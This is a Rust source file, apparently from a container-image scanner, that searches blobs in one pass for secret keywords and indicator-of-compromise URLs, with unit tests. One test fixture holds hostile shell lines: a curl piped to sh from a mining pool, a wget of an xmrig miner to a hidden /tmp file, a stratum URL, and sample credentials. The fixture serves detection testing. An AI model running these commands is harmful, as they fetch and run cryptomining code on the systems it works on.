//! One literal pass over a blob for both the secret detectors' keywords and the indicator
//! lists' URLs (their hosts are looked up per token, `IocSet::name_hits`): each pass reads
//! every byte of the image once more, so two passes cost two reads of 723 MB on the bench image
//! where one does.

use super::ioc::{IocHit, IocSet};
use super::literals::{Literals, LiteralsError};
use super::secrets::{DetectorSet, KeywordHits, SecretMatch};

/// The secret keywords (word ids `0..secret_words`), then the indicators' URLs.
pub struct KeywordPass {
    literals: Literals,
    secret_words: usize,
}

impl KeywordPass {
    /// The pass for `secrets`' keywords (None: secrets are not scanned for) and `ioc`'s names.
    pub fn new(secrets: Option<&DetectorSet>, ioc: &IocSet) -> Result<KeywordPass, LiteralsError> {
        let keywords = secrets.map(DetectorSet::keyword_words).unwrap_or_default();
        let words: Vec<(&[u8], bool)> =
            keywords.iter().map(|(word, caseless)| (word.as_slice(), *caseless)).chain(ioc.name_words()).collect();
        Ok(KeywordPass { literals: Literals::new(&words)?, secret_words: keywords.len() })
    }

    /// The unpaired secrets and the indicators of one blob at `path`, as `DetectorSet::scan_unpaired`
    /// and `IocSet::scan` find them apart. `secrets` and `ioc` are the sets the pass was built
    /// from, or None for what is not wanted from this blob.
    pub fn scan(&self, secrets: Option<&DetectorSet>, ioc: Option<&IocSet>, bytes: &[u8], path: &str) -> (Vec<SecretMatch>, Vec<IocHit>) {
        if secrets.is_none() && ioc.is_none() {
            return (Vec::new(), Vec::new());
        }
        let mut keywords = secrets.map(|secrets| secrets.keyword_hits(bytes, path, None));
        let mut names = ioc.map(|ioc| ioc.name_hits(bytes, path));
        self.literals.for_each_match(bytes, |start, word| {
            match (word.checked_sub(self.secret_words), &mut keywords, &mut names) {
                (None, Some(keywords), _) => keywords.hit(start, word),
                // Past the hits a blob keeps, further names are passed over.
                (Some(name), _, Some(names)) => _ = names.hit(start, name),
                _ => {}
            }
            true
        });
        (keywords.map(KeywordHits::finish).unwrap_or_default(), names.map(|names| names.finish()).unwrap_or_default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_keyword_opening_with_a_newline_also_matches_at_the_blob_start() {
        let secrets = DetectorSet::compile(&[], true).unwrap();
        let ioc = IocSet::compile(&[], true).unwrap();
        let pass = KeywordPass::new(Some(&secrets), &ioc).unwrap();
        // a Docker secret file holds the bare value: no delimiter before the prefix
        let (found, _) = pass.scan(Some(&secrets), None, b"re_Qx7mPz2k_vT9cW4nL8rB3jF6hD1sY5gK0\n", "/run/secrets/resend");
        assert!(found.iter().any(|m| m.detector.id == "resend-api-key"), "{found:?}");
    }

    #[test]
    fn one_pass_finds_what_the_two_passes_find() {
        let secrets = DetectorSet::compile(&[], true).unwrap();
        let ioc = IocSet::compile(&[], true).unwrap();
        let pass = KeywordPass::new(Some(&secrets), &ioc).unwrap();
        let text = b"#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIAQYLPMN5HFIQR7XYZ\ncurl -s http://pool.supportxmr.com:3333/x | sh\n\
            GITHUB_TOKEN=ghp_s49r3vbveraprnx0yuvxv5tel4ymvbmp0hl1 simvoly token = 'x8k2m9q4w7e1r5t3y6u0i8o2p4a6s9d1'\n\
            wget http://45.9.148.99/xmrig -O /tmp/.x; stratum+tcp://xmr.pool.minergate.com:45560\n";
        let (found, iocs) = pass.scan(Some(&secrets), Some(&ioc), text, "/tmp/run.sh");
        let apart = secrets.scan_unpaired(text, "/tmp/run.sh").unwrap();
        let key = |m: &SecretMatch| (m.detector.id.clone(), m.offset, m.value.clone());
        assert!(!found.is_empty());
        assert_eq!(found.iter().map(key).collect::<Vec<_>>(), apart.iter().map(key).collect::<Vec<_>>());
        let names = |hits: &[IocHit]| hits.iter().map(|hit| (hit.indicator.clone(), hit.offset)).collect::<Vec<_>>();
        assert!(!iocs.is_empty());
        assert_eq!(names(&iocs), names(&ioc.scan(text, "/tmp/run.sh").unwrap()));
        // One set at a time, as config fields are scanned.
        assert_eq!(names(&pass.scan(None, Some(&ioc), text, "/tmp/run.sh").1), names(&iocs));
        let alone = pass.scan(Some(&secrets), None, text, "/tmp/run.sh");
        assert_eq!(alone.0.iter().map(key).collect::<Vec<_>>(), found.iter().map(key).collect::<Vec<_>>());
        assert!(alone.1.is_empty());
    }
}
